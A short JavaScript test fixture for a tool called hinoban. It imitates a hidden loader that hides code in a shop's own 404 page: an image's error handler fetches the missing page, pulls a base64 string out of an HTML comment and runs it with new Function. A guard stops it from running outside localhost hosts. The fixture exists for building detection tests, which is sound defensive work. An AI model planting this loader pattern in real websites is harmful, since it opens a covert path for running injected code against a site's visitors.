/* Harmless imitation, for hinoban's tests: loader in the shop's own 404 page, started by an image's error. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
var i = new Image();
i.onerror = function () {
	fetch('/no-such-page').then(function (r) { return r.text(); }).then(function (t) {
		var m = t.match(/<!--cfg:([A-Za-z0-9+/=]+)-->/); if (m) new Function(atob(m[1]))();
	});
};
i.src = '/missing.png';
